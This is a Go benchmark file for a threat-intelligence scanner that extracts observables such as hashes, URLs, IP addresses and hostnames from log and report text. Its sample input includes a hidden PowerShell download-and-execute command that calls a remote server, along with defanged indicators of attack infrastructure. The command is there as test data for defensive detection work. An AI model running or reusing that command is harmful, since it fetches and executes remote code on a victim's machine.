package intel

import (
	"strings"
	"testing"
)

var benchText = []byte(strings.Repeat(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -nop -w hidden -c "iex (New-Object Net.WebClient).DownloadString('http://198.51.100.7:8080/a.ps1')" `+
	`SHA1=36C5D12033B2EAF251BAE61C00690FFB17FDDC87,MD5=CDA48FC75952AD12D99E526D0B6BF70A 2026-05-01T09:59:59.8123456Z WS-0142.moh.gov.example `, 4))

// BenchmarkScan finds the candidate observables in Windows-like text.
func BenchmarkScan(b *testing.B) {
	b.SetBytes(int64(len(benchText)))
	n := 0
	for b.Loop() {
		Scan(benchText, func(Kind, []byte) bool { n++; return true })
	}
	if n == 0 {
		b.Fatal("nothing found")
	}
}

// BenchmarkNormaliseURL normalises a URL with escapes, a port and dot
// segments.
func BenchmarkNormaliseURL(b *testing.B) {
	raw := []byte("HTTP://Login-Secure.Example:80/owa/../auth/%7euser/logon.aspx?replaceCurrent=1&url=%2f#x")
	var dst []byte
	for b.Loop() {
		var err error
		dst, _, _, err = AppendURL(dst[:0], raw)
		if err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkExtract reads the observables of a threat report paragraph.
func BenchmarkExtract(b *testing.B) {
	text := strings.Repeat("C2 at hxxps://evil[.]co.uk/gate.php and 198.51.100.7; dropper SHA256 9F86D081884C7D659A2FEAEA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A0 mailed from phish[@]bad.com.au. ", 10)
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		if len(Extract(text)) != 4 {
			b.Fatal("wrong count")
		}
	}
}
